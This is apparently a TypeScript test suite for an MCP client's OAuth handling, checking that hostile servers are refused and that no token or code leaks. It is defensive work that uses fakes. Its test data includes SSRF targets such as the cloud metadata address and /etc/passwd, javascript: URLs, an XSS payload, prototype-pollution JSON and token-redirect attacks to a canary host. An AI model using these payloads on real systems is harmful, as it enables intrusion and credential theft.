/**
 * Hostile servers and authorization servers, the whole path through a host: each is refused with its code, and no
 * token, code, verifier or secret ever reaches an origin that must not have it.
 */
import { expect } from "chai";
import type { InputRequest, AuthorizationOffer } from "../../../src/client/api/index.js";
import { enterpriseManaged } from "../../../src/auth/providers/index.js";
import type { McpError } from "../../../src/errors/index.js";
import { FakeAuthorizationServer, failure } from "../../fixtures/fake-authorization-server.js";
import { settled } from "../../fixtures/fake-clock.js";
import { json, silence, status } from "../../fixtures/fake-fetch.js";
import { URL_OF_SERVER, type FakeHost } from "../../fixtures/fake-host.js";
import { leaksOf } from "../../fixtures/leaks.js";
import { ProtectedServer, signingHost, type ProtectedScript } from "../../fixtures/protected-server.js";
import { until } from "../../fixtures/until.js";
import { mcpRejection } from "../../fixtures/rejection.js";

const AS = "https://as.example";
const CANARY = "https://canary.example";
type Quirks = NonNullable<ConstructorParameters<typeof FakeAuthorizationServer>[0]>;
type SignIn = Extract<InputRequest, { kind: "sign-in" }>;

interface Attacked {
  readonly server: ProtectedServer;
  readonly fake: FakeHost;
  readonly inputRequests: readonly SignIn[];
  /** `undefined`: it was connected. */
  readonly error: McpError | undefined;
}

/** Connects to a server that does this. */
async function attacked(
  { quirks, ...script }: ProtectedScript & { readonly quirks?: Quirks },
  offer: Partial<AuthorizationOffer> = {},
  during?: (fake: FakeHost) => Promise<unknown>,
): Promise<Attacked> {
  const server = new ProtectedServer({
    servers: [new FakeAuthorizationServer({ suffix: "-.~+/=", ...quirks })],
    ...script,
  });
  const inputRequests: SignIn[] = [];
  const fake = await signingHost(server, {
    offer,
    policy: (request) => {
      if (request.kind === "sign-in") inputRequests.push(request);
      return request.kind === "sign-in" ? { answer: server.signIn(request) } : "refuse";
    },
  });
  const connecting = fake.host.connect(URL_OF_SERVER).then(
    () => undefined,
    (error: McpError) => error,
  );
  await during?.(fake);
  const error = await connecting;
  expect(leaksOf(server)).to.deep.equal([]);
  return { server, fake, inputRequests, error };
}

/** The origins that were asked anything, but for those that have to be. */
function strangers({ server }: Attacked): readonly string[] {
  const known = new Set([new URL(URL_OF_SERVER).origin, AS]);
  return [...new Set(server.http.requests.map(({ url }) => new URL(url).origin))].filter((one) => !known.has(one));
}

/** It was refused so, before anybody was asked, and without a word to strangers. */
function expectRefused(attack: Attacked, code: string): void {
  expect(attack.error?.code).to.equal(code);
  expect(attack.inputRequests).to.deep.equal([]);
  expect(strangers(attack)).to.deep.equal([]);
}

describe("a hostile server is refused, and receives no secret:", () => {
  for (const url of [
    "http://169.254.169.254/latest/meta-data",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "http://127.0.0.1:6379/",
  ]) {
    it(`its challenge names ${url} for metadata, which is never requested: the well-known address is used`, async () => {
      const challenge = `Bearer resource_metadata="${url}"`;
      const attack = await attacked({ challenge, metadata: () => status(404) });
      expectRefused(attack, "ERR-AUTH-DISCOVERY");
      const found = await attacked({ challenge });
      expect(found.error).to.equal(undefined);
      expect(strangers(found)).to.deep.equal([]);
    });
  }

  it("its metadata is about another resource (A-05)", async () => {
    const attack = await attacked({ metadata: { resource: "https://evil.example/mcp" } });
    expectRefused(attack, "ERR-AUTH-DISCOVERY");
    expect(attack.server.as.requests).to.deep.equal([]);
  });

  for (const servers of [[], ["javascript:x"], ["http://as.example"], AS, {}, null]) {
    it(`its metadata names ${JSON.stringify(servers)} for authorization servers`, async () => {
      const attack = await attacked({ metadata: { authorization_servers: servers } });
      expectRefused(attack, "ERR-AUTH-DISCOVERY");
      expect(attack.server.as.requests).to.deep.equal([]);
    });
  }

  it("its metadata names a thousand authorization servers", async () => {
    const servers = Array.from({ length: 1_000 }, (_, at) => `https://canary-${at}.example`);
    const attack = await attacked({ metadata: { authorization_servers: servers } });
    expect(attack.error?.code).to.equal("ERR-AUTH-DISCOVERY");
    expect(strangers(attack)).to.have.length.within(1, 5);
  });

  for (const [what, answer] of [
    ["100 MB", () => new Response(endless())],
    ["1,000 levels", () => new Response("[".repeat(1_000) + "]".repeat(1_000))],
    ["an error", () => status(500)],
    ["__proto__ for its members", () => new Response(`{"__proto__":{"resource":"${URL_OF_SERVER}"}}`)],
  ] as const) {
    it(`its metadata has ${what}`, async () => {
      expectRefused(await attacked({ metadata: answer }), "ERR-AUTH-DISCOVERY");
      const quirks: Quirks = { next: { "/.well-known/oauth-authorization-server": [answer()] } };
      const there = await attacked({ quirks: { ...quirks, metadata: { issuer: "https://nobody.example" } } });
      expectRefused(there, "ERR-AUTH-DISCOVERY");
    });
  }

  it("its metadata never comes", async () => {
    const attack = await attacked({ metadata: silence }, {}, async (fake) => {
      await until(() => fake.events.length > 0 && fake.clock.nextIn === 10_000);
      fake.clock.advance(10_000);
      await settled();
    });
    expectRefused(attack, "ERR-AUTH-DISCOVERY");
  });
});

describe("a hostile authorization server is refused, and receives no secret:", () => {
  it("its metadata is that of an honest one (A-07)", async () => {
    expectRefused(await attacked({ quirks: { metadata: { issuer: "https://honest.example" } } }), "ERR-AUTH-DISCOVERY");
  });

  for (const endpoint of [
    "javascript:__pwned=1",
    "data:text/html,x",
    `${AS}/authorize#frag`,
    "vbscript:x",
    "http://as.example/authorize",
    "https://user:pass@as.example/authorize",
  ]) {
    it(`its metadata names ${endpoint} as the sign-in page (A-18)`, async () => {
      const attack = await attacked({ quirks: { metadata: { authorization_endpoint: endpoint } } });
      expectRefused(attack, "ERR-AUTH-DISCOVERY");
      expect(attack.server.as.to("/register")).to.deep.equal([]);
    });
  }

  it("its endpoint has parameters of the request in its query: they are replaced", async () => {
    const preset = "client_id=evil&redirect_uri=https%3A%2F%2Fevil.example&response_type=token&state=fixed&tenant=7";
    const attack = await attacked({ quirks: { metadata: { authorization_endpoint: `${AS}/authorize?${preset}` } } });
    expect(attack.error).to.equal(undefined);
    const { searchParams } = new URL(attack.inputRequests[0]?.authorizationUrl ?? "");
    for (const name of ["client_id", "redirect_uri", "response_type", "state"]) {
      expect(searchParams.getAll(name), name).to.have.length(1);
    }
    expect(searchParams.get("response_type")).to.equal("code");
    expect(searchParams.get("redirect_uri")).to.equal("https://app.example/callback");
    expect(searchParams.get("state")).to.equal(attack.inputRequests[0]?.state);
    expect(searchParams.get("tenant")).to.equal("7");
    expect(strangers(attack)).to.deep.equal([]);
  });

  for (const code of [301, 302, 307, 308]) {
    it(`it redirects the request for a token with ${code}`, async () => {
      const next = { "/token": [status(code, { location: `${CANARY}/token` })] };
      const attack = await attacked({ quirks: { next } });
      expect(attack.error?.code).to.match(/^ERR-AUTH/);
      expect(attack.server.as.to("/token")).to.have.length(1);
      expect(attack.server.as.to("/token")[0]?.redirect).to.equal("manual");
      expect(strangers(attack)).to.deep.equal([]);
    });
  }

  it("it redirects a refresh", async () => {
    const attack = await attacked({ methods: { "tools/call": () => ({ content: [] }) } });
    const { server, fake } = attack;
    server.expire();
    server.as.quirks.next = { "/token": [status(307, { location: `${CANARY}/token` })] };
    await fake.host.connect(URL_OF_SERVER);
    expect(attack.inputRequests.map(({ reason }) => reason)).to.deep.equal(["first", "expired"]);
    expect(strangers(attack)).to.deep.equal([]);
    expect(leaksOf(server)).to.deep.equal([]);
  });

  it("its sign-in page redirects to that of an honest one, to get its code (A-17)", async () => {
    const honest = new FakeAuthorizationServer({ issuer: "https://honest.example", suffix: "-honest" });
    const evil = new FakeAuthorizationServer({ metadata: { authorization_endpoint: `${honest.issuer}/authorize` } });
    const { error, server } = await attacked({ servers: [evil, honest] });
    expect(error?.code).to.equal("ERR-AUTH-MIXUP");
    expect([...honest.secrets]).to.have.length(1); // it gave a code, and
    expect(server.servers.flatMap((one) => one.to("/token"))).to.deep.equal([]);
  });

  for (const [what, promise, code] of [
    ["is refused before anybody is asked", undefined, "ERR-AUTH-DISCOVERY"],
    ["gets no code, as the answer does not name it, though it promised that", true, "ERR-AUTH-MIXUP"],
  ] as const) {
    it(`its sign-in page redirects to an honest one without an issuer in its answers: it ${what}`, async () => {
      const honest = new FakeAuthorizationServer({ issuer: "https://honest.test", callback: { iss: undefined } });
      const evil = new FakeAuthorizationServer({
        metadata: {
          authorization_endpoint: `${honest.issuer}/authorize`,
          authorization_response_iss_parameter_supported: promise,
        },
      });
      const { error, server, inputRequests } = await attacked({ servers: [evil, honest] });
      expect(error?.code).to.equal(code);
      expect(inputRequests).to.have.length(promise ? 1 : 0);
      expect(server.servers.flatMap((one) => one.to("/token"))).to.deep.equal([]);
    });
  }

  for (const [what, callback, metadata] of [
    ["no issuer, though it promised one", { iss: undefined }, {}],
    ["another issuer", { iss: "https://other.example" }, {}],
    [
      "another issuer, unannounced",
      { iss: "https://other.example" },
      { authorization_response_iss_parameter_supported: undefined },
    ],
    ["its issuer with a slash", { iss: `${AS}/` }, {}],
    ["two codes", { code: ["a", "b"] }, {}],
    ["two issuers", { iss: [AS, AS] }, {}],
    ["two states", { state: ["a", "b"] }, {}],
    ["another state", { state: "another" }, {}],
  ] as const) {
    it(`its callback has ${what} (A-17)`, async () => {
      const { error, server } = await attacked({ quirks: { callback, metadata } });
      expect(error?.code).to.equal("ERR-AUTH-MIXUP");
      expect(server.as.to("/token")).to.deep.equal([]);
    });
  }

  it("its callback has markup as error_description: it is shown as text, and not at all for another issuer", async () => {
    const callback = { code: undefined, error: "server_error", error_description: "<img onerror=alert(1)>" };
    const own = await attacked({ quirks: { callback } });
    expect(own.error?.code).to.equal("ERR-AUTH");
    expect(own.error?.message).to.contain("<img onerror=alert(1)>");
    const strange = await attacked({ quirks: { callback: { ...callback, iss: "https://other.example" } } });
    expect(strange.error?.code).to.equal("ERR-AUTH-MIXUP");
    expect(JSON.stringify([strange.fake.events, strange.error?.message])).not.to.contain("onerror");
  });

  for (const methods of [undefined, ["plain"], [], "S256"]) {
    it(`its metadata has ${JSON.stringify(methods) ?? "nothing"} for PKCE (A-08)`, async () => {
      const attack = await attacked({ quirks: { metadata: { code_challenge_methods_supported: methods } } });
      expectRefused(attack, "ERR-AUTH-PKCE");
      expect(attack.server.as.to("/register")).to.deep.equal([]);
    });
  }

  it("its refreshes have failures and new tokens: the old tokens are sent nowhere else", async () => {
    const attack = await attacked({ methods: { "tools/call": () => ({ content: [] }) } });
    const { server, fake } = attack;
    for (const next of [undefined, failure("invalid_grant", 400, {}, { error_description: CANARY })]) {
      server.expire();
      if (next) server.as.quirks.next = { "/token": [next] };
      const [one, two] = await Promise.all([fake.host.connect(URL_OF_SERVER), fake.host.connect(URL_OF_SERVER)]);
      expect([one.info.revision, two.info.revision]).to.deep.equal(["2026-07-28", "2026-07-28"]);
    }
    expect(server.tokenRequests("refresh_token")).to.have.length(2);
    expect(server.tokenRequests("authorization_code")).to.have.length(2);
    expect(leaksOf(server)).to.deep.equal([]);
    expect(strangers(attack)).to.deep.equal([]);
  });

  for (const [what, registration] of [
    ["no client id", { client_id: undefined }],
    ["another redirect URL", { redirect_uris: ["https://evil.example/callback"] }],
    ["a way to authenticate that it gives no secret for", { token_endpoint_auth_method: "client_secret_post" }],
  ] as const) {
    it(`it registers the client with ${what}`, async () => {
      expectRefused(await attacked({ quirks: { registration } }), "ERR-AUTH-REG");
    });
  }

  it("it registers a public client with a secret, which is not used", async () => {
    const { error, server } = await attacked({ quirks: { registration: { client_secret: "unwanted" } } });
    expect(error).to.equal(undefined);
    expect(server.tokenRequests("authorization_code")[0]?.has("client_secret")).to.equal(false);
  });

  it("it registers the client as __proto__, or with 200, which is a client like any other", async () => {
    const { error, inputRequests } = await attacked({ quirks: { registration: { client_id: "__proto__" } } });
    expect(error).to.equal(undefined);
    expect(new URL(inputRequests[0]?.authorizationUrl ?? "").searchParams.get("client_id")).to.equal("__proto__");
    expect(Object.hasOwn(Object.prototype, "clientId")).to.equal(false);
    const known = json({ client_id: "as-200", redirect_uris: ["https://app.example/callback"] });
    const other = await attacked({ quirks: { next: { "/register": [known] } } });
    expect(other.inputRequests).to.have.length(1);
  });

  it("it allows no registration by pages, which is tried once, and reported", async () => {
    const attack = await attacked({ quirks: { next: { "/register": ["network", "network"] } } });
    expectRefused(attack, "ERR-AUTH-REG");
    expect(attack.error?.message).to.contain("CORS");
    expect(attack.server.as.to("/register")).to.have.length(1);
  });

  it("it requires all scopes after a call that only read: the user sees which are added", async () => {
    const attack = await attacked({
      challenge: 'Bearer scope="read"',
      methods: { "tools/call": () => ({ content: [] }) },
      scopes: { "tools/call x": "admin:*" },
    });
    await (await attack.fake.host.connect(URL_OF_SERVER)).callTool("x");
    expect(attack.inputRequests.at(-1)).to.deep.include({ scopes: ["read", "admin:*"], added: ["admin:*"] });
    expect(leaksOf(attack.server)).to.deep.equal([]);
  });

  for (const clientMetadataUrl of ["http://app.example/client.json", "https://app.example", "https://app.example/"]) {
    it(`the client id metadata document of the page is at ${clientMetadataUrl}, which is reported before a redirect (A-10)`, async () => {
      const quirks: Quirks = { metadata: { client_id_metadata_document_supported: true } };
      expectRefused(await attacked({ quirks }, { clientMetadataUrl }), "ERR-ARGUMENT");
    });
  }

  for (const wrong of [
    { issued_token_type: "urn:ietf:params:oauth:token-type:access_token" },
    { token_type: "Bearer" },
  ]) {
    it(`an identity provider returns ${JSON.stringify(wrong)} as an ID-JAG`, async () => {
      const server = new ProtectedServer();
      const given = {
        access_token: "machine-jag",
        issued_token_type: "urn:ietf:params:oauth:token-type:id-jag",
        token_type: "N_A",
        ...wrong,
      };
      const idp = { tokenEndpoint: "https://idp.example/token", clientId: "c", idToken: async () => "id.to.ken" };
      const tokens = enterpriseManaged({ clientId: "c", clientSecret: "s3cret", idp, fetch: async () => json(given) });
      const fake = await signingHost(server, { tokens });
      const error = await mcpRejection(fake.host.connect(URL_OF_SERVER));
      expect([error.code, error.data.reason]).to.deep.equal(["ERR-AUTH", "unusable"]);
      expect(server.as.to("/token")).to.deep.equal([]);
      expect(server.http.requests.some(({ headers }) => headers.has("authorization"))).to.equal(false);
      expect(leaksOf(server)).to.deep.equal([]);
    });
  }
});

describe("the detector of leaked secrets", () => {
  it("finds a token that is sent to a foreign server, and a code that is sent to another authorization server", async () => {
    const { server } = await attacked({});
    const [token = ""] = [...server.as.secrets].filter((secret) => secret.startsWith("access"));
    await server.http.fetch(`${CANARY}/x`, { headers: { cookie: btoa(`id=${token}`) } });
    await server.http.fetch(`${CANARY}/x?code=1`, {});
    await server.http.fetch(`${URL_OF_SERVER}?token=${encodeURIComponent(token)}`, {});
    expect(leaksOf(server)).to.have.length(3);
  });
});

function endless(): ReadableStream<Uint8Array> {
  let sent = 0;
  return new ReadableStream({
    pull(controller) {
      sent += 65_536;
      if (sent > 100_000_000) controller.close();
      else controller.enqueue(new Uint8Array(65_536).fill(32));
    },
  });
}
